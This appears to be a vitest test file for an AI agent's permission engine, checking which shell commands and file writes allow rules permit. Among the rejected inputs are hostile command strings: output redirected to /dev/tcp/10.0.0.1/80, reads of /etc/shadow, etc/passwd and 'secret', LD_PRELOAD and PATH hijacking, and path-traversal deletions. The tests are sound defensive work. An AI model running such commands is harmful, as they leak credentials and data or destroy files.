import { describe, expect, it } from "vitest";
import { explain, verdict } from "../../support/policy-fakes";

function allowing(rules: readonly string[], command: string): Promise<string> {
  return verdict(command, { settings: { permissions: { allow: rules } } });
}

describe("an allow rule about commands", () => {
  it.each([
    ["Bash(npm run *)", "npm run"],
    ["Bash(npm run:*)", "npm run test --watch"],
    ["Bash(npm run test*)", "npm run test:unit"],
    ["Bash(rm build/*)", "rm build/x"],
    ["Bash(npm run *)", 'npm run "$NAME"'],
    ["Bash(npm run *)", "nohup timeout 5 npm run test"],
    ["Bash(FOO=1 make)", "FOO=1 make"],
    ["Bash(make)", "cd src && make"],
    ["Bash(make)", "make && cat README.md"],
    ["Bash(make)", "make < README.md"],
    ["Bash(make)", "make 2>/dev/null"],
    ["Bash(git * main)", "git push origin main"],
    ["Bash", "make; rm x"],
    ["Bash(*)", "make"],
    ["Bash(echo \\*)", "echo '*'"],
  ])("%s covers %s", async (rule, command) => {
    expect(await allowing([rule], command)).toBe("allow");
  });

  it.each([
    ["Bash(npm run test*)", "npm run test x"],
    ["Bash(rm build/*)", "rm build/x /etc/y"],
    ["Bash(rm build/*)", "rm build/../src"],
    ["Bash(rm build/*)", "rm build/.[.]/src/app.ts"],
    ["Bash(rm build/*)", "rm build/.?/src/app.ts"],
    ["Bash(git * main)", "git main"],
    ["Bash(npm run *)", "npm run $NAME"],
    ["Bash(npm run *)", "/tmp/npm run x"],
    ["Bash(npm run *)", "./npm run x"],
    ["Bash(npm run *)", "npmx run x"],
    ["Bash(make)", "FOO=1 make"],
    ["Bash(*)", "LD_PRELOAD=./x.so ls"],
    ["Bash(make)", "PATH=.; make"],
    ["Bash(make)", "export PATH=.; make"],
    ["Bash(make)", "cd / && make"],
    ["Bash(make)", "cd .. && cat secret && make"],
    ["Bash(make)", "make < /etc/shadow"],
    ["Bash(make)", "make > out"],
    ["Bash(make)", "make >& out"],
    ["Bash(make)", "make 2> $OUT"],
    ["Bash(make)", "make > /dev/tcp/10.0.0.1/80"],
    ["Bash(make)", "make 'unterminated"],
    ["Bash", "make 'unterminated"],
    ["Bash", "$COMMAND"],
    ["Bash", "make > out"],
    ["Bash(make *)", `make ${"x".repeat(10_000)}`],
    ["Bash(cd *)", "cd / && cat etc/passwd"],
  ])("%s does not cover %s", async (rule, command) => {
    expect(await allowing([rule], command)).toBe("ask");
  });

  it("lets a redirect write what a write rule allows, and only from where that is known", async () => {
    expect(await allowing(["Bash(make)", "Write(out/**)"], "make > out/log")).toBe("allow");
    expect(await allowing(["Bash(make)", "Edit(out/**)"], "make >> out/log")).toBe("allow");
    expect(await allowing(["Bash(make)", "Write(out/**)"], "make > out/../x")).toBe("ask");
    expect(await allowing(["Bash(make)", "Write(out/**)"], "cd src && make > out/log")).toBe("ask");
  });

  it("does not take along what the mode asks about on its own", async () => {
    const bubble = { mode: "bubble", settings: { permissions: { allow: ["Bash(make)"] } } };
    expect(await verdict("make", bubble)).toBe("allow");
    expect(await verdict("ls; make", bubble)).toBe("ask");
  });

  it("doesn't cover a shell call without a command", async () => {
    const { merged } = await explain(
      "shell",
      { command: 5 },
      { settings: { permissions: { allow: ["Bash", "*"] } } },
    );
    expect(merged.behavior).toBe("ask");
  });
});

describe("an allow rule about files", () => {
  const write = async (rules: readonly string[], path: string, links: Record<string, string> = {}) => {
    const settings = { permissions: { allow: rules } };
    return (await explain("write_file", { path, content: "" }, { settings, disk: { links } })).merged
      .behavior;
  };

  it("covers what it names, by the name and by what is behind it", async () => {
    expect(await write(["Write(src/**)"], "src/a.ts")).toBe("allow");
    expect(await write(["Edit(src/**)"], "src/a.ts")).toBe("allow");
    expect(await write(["Write(src/**)"], "lib/a.ts")).toBe("ask");
    expect(await write(["Write(src/**)"], "src/link/a", { "/w/src/link": "/w/lib" })).toBe("ask");
    expect(await write(["Write(src/**)"], "link/a", { "/w/link": "/w/src" })).toBe("ask");
    expect(await write(["Write(link/**)"], "link/a", { "/w/link": "/w/src" })).toBe("ask");
    expect(await write(["Write({src,link}/**)"], "link/a", { "/w/link": "/w/src" })).toBe("allow");
  });

  it("takes a name without a slash for one place, and a tool's name for that tool", async () => {
    expect(await write(["Write(a.ts)"], "a.ts")).toBe("allow");
    expect(await write(["Write(a.ts)"], "src/a.ts")).toBe("ask");
    expect(await write(["write_file"], "src/a.ts")).toBe("allow");
    expect(await write(["Edit"], "src/a.ts")).toBe("ask");
    expect(await write(["*"], "src/a.ts")).toBe("allow");
  });
});
